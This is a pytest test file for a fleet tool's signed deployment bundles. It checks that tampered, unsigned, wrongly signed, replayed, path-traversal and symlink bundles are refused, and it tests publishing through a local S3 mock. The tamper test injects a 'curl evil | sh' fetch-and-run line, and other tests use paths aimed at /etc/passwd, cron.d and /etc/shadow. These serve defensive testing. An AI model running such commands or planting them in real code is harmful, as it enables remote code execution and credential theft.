"""Pull-mode bundles on the host: signed, verified, refused when unsigned, tampered, for another kit
or older; published to a (moto) asset bucket and fetched over loopback HTTP; applied for real by
pyinfra's @local connector (with a small deploy that writes into a temp folder, not the kit deploy,
which would reconfigure this machine). The lab test proves the kit deploy itself on a lab kit."""

from __future__ import annotations

import gzip
import io
import json
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from nomadkit import ROOT
from nomadkit.cli import main
from nomadkit.endpoints import CloudEndpoints
from nomadkit.errors import UserError
from nomadkit.fleet import bundle, pullkit
from nomadkit.fleet.hosts import Fleet, load_fleet
from nomadkit.fleet.pullkit import Refused, Stale, verify

REF = "secret:night_shift_deploy_key"


@pytest.fixture
def tour_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The demo tour with a pull section and its deploy key in a temp secrets folder."""
    monkeypatch.setenv("NOMADKIT_SECRETS", str(tmp_path / "secrets"))
    monkeypatch.setenv("NOMADKIT_ENDPOINTS", str(tmp_path / "no-endpoints.json"))
    monkeypatch.delenv("NOMADKIT_CONNECT", raising=False)
    seed, public = bundle.new_deploy_key()
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / REF.partition(":")[2]).write_text(seed)
    path = tmp_path / "tour.yaml"
    path.write_text((ROOT / "tours" / "demo.yaml").read_text().replace("assets_dir: demo-assets", "")
                    + f'\npull:\n  signing_key: "{REF}"\n  public_key: {public}\n')
    return path


@pytest.fixture
def fleet(tour_file: Path) -> Fleet:
    return load_fleet(tour_file)


def public(fleet: Fleet) -> str:
    assert fleet.tour.pull is not None
    return fleet.tour.pull.public_key


def built(fleet: Fleet, version: int, kit: str = "kit-a", **kw: object) -> bundle.Built:
    return bundle.build(fleet, kit, version, bundle.signing_key(fleet.tour), **kw)  # type: ignore[arg-type]


def members(data: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}  # type: ignore[union-attr]


def retar(items: dict[str, bytes]) -> bytes:
    return bundle.tar_gz(items)


def test_a_signed_bundle_verifies_and_holds_the_deploy_code(fleet: Fleet) -> None:
    b = built(fleet, 5)
    got = verify(b.data, public(fleet), "kit-a", applied_version=4)
    assert got.version == 5
    assert got.files["deploys/kit.py"] == (ROOT / "deploys" / "kit.py").read_bytes()
    assert "src/nomadkit/roles/agent.py" in got.files and "templates/agent/agent.json.j2" in got.files
    assert not any("__pycache__" in name for name in got.files)
    data = json.loads(got.files["host_data.json"])
    assert data["nomadkit_kit"] == "kit-a" and not any(k.startswith("ssh_") for k in data)
    assert got.manifest["runtime"]["pyinfra"]


def test_bundles_are_reproducible_apart_from_their_creation_time(fleet: Fleet) -> None:
    a, b = members(built(fleet, 7).data), members(built(fleet, 7).data)
    assert {k: v for k, v in a.items() if not k.startswith("manifest")} == \
           {k: v for k, v in b.items() if not k.startswith("manifest")}


def test_a_changed_file_is_refused(fleet: Fleet) -> None:
    items = members(built(fleet, 5).data)
    items["files/deploys/kit.py"] += b"\nimport os; os.system('curl evil | sh')\n"
    with pytest.raises(Refused, match=r"deploys/kit\.py: sha256 does not match"):
        verify(retar(items), public(fleet), "kit-a", 0)


def test_a_changed_manifest_breaks_the_signature(fleet: Fleet) -> None:
    items = members(built(fleet, 5).data)
    manifest = json.loads(items["manifest.json"])
    manifest["version"] = 99
    items["manifest.json"] = json.dumps(manifest).encode()
    with pytest.raises(Refused, match="signature does not verify"):
        verify(retar(items), public(fleet), "kit-a", 0)


def test_an_unsigned_bundle_is_refused(fleet: Fleet) -> None:
    items = members(built(fleet, 5).data)
    del items["manifest.sig"]
    with pytest.raises(Refused, match="unsigned"):
        verify(retar(items), public(fleet), "kit-a", 0)


def test_a_bundle_signed_with_another_key_is_refused(fleet: Fleet) -> None:
    _, other_public = bundle.new_deploy_key()
    with pytest.raises(Refused, match="signature does not verify"):
        verify(built(fleet, 5).data, other_public, "kit-a", 0)


def test_another_kits_bundle_is_refused(fleet: Fleet) -> None:
    with pytest.raises(Refused, match="for kit 'kit-b', this is 'kit-a'"):
        verify(built(fleet, 5, kit="kit-b").data, public(fleet), "kit-a", 0)


def test_an_older_or_same_version_is_stale(fleet: Fleet) -> None:
    with pytest.raises(Stale, match="replayed"):
        verify(built(fleet, 5).data, public(fleet), "kit-a", applied_version=6)
    with pytest.raises(Stale) as same:
        verify(built(fleet, 6).data, public(fleet), "kit-a", applied_version=6)
    assert "replayed" not in str(same.value)


@pytest.mark.parametrize(("name", "says"), [
    ("files/extra.py", "differ from its manifest"), ("files/../../etc/cron.d/x", "unsafe path"),
    ("/etc/passwd", "unsafe path")])
def test_smuggled_files_are_refused(fleet: Fleet, name: str, says: str) -> None:
    items = members(built(fleet, 5).data)
    items[name] = b"x"
    with pytest.raises(Refused, match=says):
        verify(retar(items), public(fleet), "kit-a", 0)


def test_links_and_garbage_are_refused(fleet: Fleet) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tar:
        link = tarfile.TarInfo("files/deploys/kit.py")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
        tar.addfile(link)
    with pytest.raises(Refused, match="not a regular file"):
        verify(gzip.compress(raw.getvalue()), public(fleet), "kit-a", 0)
    with pytest.raises(Refused, match="not a bundle"):
        verify(b"<html>502 Bad Gateway</html>", public(fleet), "kit-a", 0)


def test_a_key_that_does_not_match_the_tour_is_named(tour_file: Path) -> None:
    (tour_file.parent / "secrets" / REF.partition(":")[2]).write_text(bundle.new_deploy_key()[0])
    with pytest.raises(UserError, match=r"is not the key whose public half is pull\.public_key"):
        bundle.signing_key(load_fleet(tour_file).tour)


def test_versions_only_go_up() -> None:
    assert bundle.next_version(None) >= 1_700_000_000
    assert bundle.next_version(10**11) == 10**11 + 1


# --- applying for real, with pyinfra's @local connector -----------------------------------------

PROBE = '''from io import StringIO
from pyinfra import host
from pyinfra.operations import files

files.put(name="marker", src=StringIO(host.data.nomadkit_kit + "\\n"), dest="{dest}")
'''


@pytest.fixture
def kit_side(tmp_path: Path) -> pullkit.Config:
    """A kit's pull config, with this test run's venv standing in for the kit's pull runtime."""
    return pullkit.Config(kit="kit-a", url="http://127.0.0.1:9/never", public_key="",
                          state_dir=tmp_path / "pull", venv=Path(sys.executable).parent.parent,
                          secrets_dir=tmp_path / "kit-secrets")


def probe_bundle(fleet: Fleet, version: int, dest: Path) -> bundle.Built:
    code = {"deploys/probe.py": PROBE.format(dest=dest).encode(), "src/.keep": b""}
    return built(fleet, version, entry="deploys/probe.py", code=code)


def test_kit_applies_new_bundles_and_refuses_bad_ones(fleet: Fleet, kit_side: pullkit.Config,
                                                      tmp_path: Path) -> None:
    config = pullkit.Config(**{**kit_side.__dict__, "public_key": public(fleet)})
    marker = tmp_path / "applied-by-pyinfra"

    first = pullkit.pull_once(config, probe_bundle(fleet, 10, marker).data)
    assert (first["state"], first["applied_version"]) == ("applied", 10), first
    assert marker.read_text() == "kit-a\n"
    assert json.loads(config.status_file.read_text())["applied_version"] == 10

    assert pullkit.pull_once(config, probe_bundle(fleet, 10, marker).data)["state"] == "current"

    marker.unlink()
    older = pullkit.pull_once(config, probe_bundle(fleet, 9, marker).data)
    assert older["state"] == "refused" and "replayed" in older["reason"]

    items = members(probe_bundle(fleet, 11, marker).data)
    items["files/deploys/probe.py"] = items["files/deploys/probe.py"].replace(b"marker", b"pwned")
    tampered = pullkit.pull_once(config, retar(items))
    assert tampered["state"] == "refused" and "sha256 does not match" in tampered["reason"]
    assert tampered["applied_version"] == 10
    assert not marker.exists(), "a refused bundle must not run"


def test_a_failing_deploy_is_reported_and_not_recorded_as_applied(fleet: Fleet, kit_side: pullkit.Config,
                                                                  tmp_path: Path) -> None:
    config = pullkit.Config(**{**kit_side.__dict__, "public_key": public(fleet)})
    code = {"deploys/probe.py": b"raise SystemExit('cannot configure the modem')\n", "src/.keep": b""}
    status = pullkit.pull_once(config, built(fleet, 3, entry="deploys/probe.py", code=code).data)
    assert status["state"] == "failed" and "pyinfra exited" in status["reason"]
    assert status["applied_version"] == 0


# --- publishing to the asset bucket and fetching over HTTP (moto on loopback) -------------------


@pytest.fixture
def bucket(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A moto S3 on 127.0.0.1 with the tour's asset bucket; endpoints pointing at it."""
    import boto3
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    for var in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(var, "testing")
    url = f"http://{host}:{port}"
    boto3.client("s3", region_name="eu-west-1", endpoint_url=url).create_bucket(
        Bucket="night-shift-test-assets", CreateBucketConfiguration={"LocationConstraint": "eu-west-1"})
    endpoints = CloudEndpoints(
        stack="test", region="eu-west-1", assets_bucket="night-shift-test-assets",
        recordings_bucket="night-shift-test-recordings", cdn_url="http://127.0.0.1:9/",
        relay_srt_urls={"stage": "srt://127.0.0.1:9000"}, webhook_url="http://127.0.0.1:8081/",
        ledger_table="ledger", members_table="members", crm_queue_url=f"{url}/123/crm",
        ticket_public_key="x", s3_endpoint=url)
    path = tmp_path / "endpoints.json"
    path.write_text(endpoints.model_dump_json())
    monkeypatch.setenv("NOMADKIT_ENDPOINTS", str(path))
    yield path
    server.stop()


def test_publish_then_the_kit_fetches_latest(tour_file: Path, bucket: Path, kit_side: pullkit.Config,
                                             tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "kit-a.bundle"
    assert main(["bundle", str(tour_file), "--kit", "kit-a", "--out", str(out), "--publish", "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["published"][-1].endswith("/bundles/kit-a/latest")
    endpoints = CloudEndpoints.read(bucket)
    assert bundle.published_version(endpoints, "kit-a") == result["version"]

    # The bucket is private (the CDN reads it with its origin access); a presigned URL stands in
    # for the CDN here, so the kit's own fetch code downloads what was published.
    url = bundle.s3_client(endpoints).generate_presigned_url("get_object", Params={
        "Bucket": endpoints.assets_bucket, "Key": bundle.latest_key("kit-a")}, ExpiresIn=60)
    fetched = pullkit.fetch(url)
    assert fetched == out.read_bytes()
    fleet = load_fleet(tour_file)
    assert verify(fetched, public(fleet), "kit-a", 0).version == result["version"]

    # a second bundle is numbered above the published one, and an explicit older one is refused
    assert main(["bundle", str(tour_file), "--kit", "kit-a", "--out", str(out), "--publish", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["version"] > result["version"]
    assert main(["bundle", str(tour_file), "--kit", "kit-a", "--publish", "--version", "5"]) == 1
    assert "not newer than the published" in capsys.readouterr().err


# --- the pull role: what a pull-mode kit gets ---------------------------------------------------


def test_pull_role_renders_nothing_for_tours_without_pull_mode() -> None:
    from nomadkit.roles import pull
    from nomadkit.tour import load_tour

    tour = load_tour(ROOT / "tours" / "demo.yaml")
    assert pull.files(tour, tour.kit("kit-a"), None) == {}


def test_pull_role_files_hold_the_public_key_and_redacted_secrets(fleet: Fleet, tmp_path: Path) -> None:
    import subprocess

    from nomadkit.roles import pull

    rendered = pull.files(fleet.tour, fleet.tour.kit("kit-a"), None)
    config = json.loads(rendered[pull.CONFIG])
    assert config["public_key"] == public(fleet) and config["url"] is None and config["kit"] == "kit-a"
    assert rendered[f"{pull.SECRETS}/kit_a_wwan0_pin"] == "REDACTED-kit_a_wwan0_pin\n"
    assert rendered[f"{pull.PREFIX}/nomadkit/fleet/pullkit.py"] == (
        ROOT / "src" / "nomadkit" / "fleet" / "pullkit.py").read_text()
    for path in (pull.SERVICE, pull.TIMER):
        (tmp_path / Path(path).name).write_text(rendered[path])
    done = subprocess.run(["systemd-analyze", "verify", "nomadkit-pull.timer", "nomadkit-pull.service"],
                          cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0 and not done.stderr.strip(), done.stderr


def test_the_kit_deploy_runs_the_pull_role_and_the_image_carries_its_packages(fleet: Fleet) -> None:
    """The role existed but was never in the deploy's list: a pull-mode kit got no timer (lab, #9)."""
    from nomadkit import roles
    from nomadkit.lab import image
    from nomadkit.roles import pull

    assert "nomadkit.roles.pull" in [module.__name__ for module in roles.modules()]
    assert pull.TIMER in roles.kit_files(fleet.tour, fleet.tour.kit("kit-a"), None)
    assert set(pull.PACKAGES) <= set(roles.packages()) and set(pull.PACKAGES) <= set(image.KIT_PACKAGES)
